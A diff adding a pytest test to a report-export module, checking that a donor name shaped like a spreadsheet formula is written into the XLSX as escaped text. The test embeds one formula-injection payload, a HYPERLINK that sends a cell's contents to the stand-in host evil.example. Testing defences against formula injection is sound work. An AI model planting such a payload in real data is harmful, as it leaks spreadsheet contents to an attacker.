@@ -155,3 +155,22 @@ def test_api_refuses_bad_parameters_by_name(callers, api_client_for):
     assert response.status_code == 400
     assert set(response.json()) >= {"year", "half", "lang"}
     assert client.get("/api/v1/reports/annual/?year=2023").status_code == 400
+
+
+def test_a_formula_in_a_name_is_written_as_text_in_the_workbook(unions, portfolio, tmp_path):
+    """A donor named like a spreadsheet formula (=HYPERLINK…, +, -, @) must not become
+    one in the XLSX a union hands on: the cell holds the text, marked as text."""
+    from amity.registry.models import Organization
+
+    trap = '=HYPERLINK("http://evil.example/?x="&A1,"Alpha")'
+    Organization.objects.filter(name="Alpha Foundation").update(name=trap)
+    path = written(tmp_path, "xlsx", "annual", "--union", "dong-nai", "--year", "2023")
+    cells = [
+        cell
+        for sheet in load_workbook(path).worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
+    ]
+    assert cells, "the donor is in the workbook"
+    assert all(cell.value == "'" + trap and cell.data_type == "s" for cell in cells)
